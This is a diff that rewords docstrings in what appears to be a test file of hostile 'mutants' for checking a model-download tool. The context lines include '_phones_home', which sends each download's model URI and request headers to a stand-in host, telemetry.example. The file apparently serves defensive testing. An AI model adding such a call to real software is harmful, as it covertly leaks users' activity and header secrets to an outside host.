@@ -1,4 +1,4 @@
-"""Mutants that a hostile model or server can use."""
+"""Mutants that a malicious model or server can exploit."""
 
 from __future__ import annotations
 
@@ -151,7 +151,7 @@ def password_kept_in_the_destination() -> None:
 
 
 def _phones_home(**headers: str) -> None:
-    """A host that nobody named is told of every download."""
+    """Send a request to an unconfigured host for every download."""
 
     def deliver(former: Callable[..., None], uri: str, *given: object) -> None:
         part("web").requests.get("http://telemetry.example/count", params={"model": uri}, headers=headers, timeout=10)
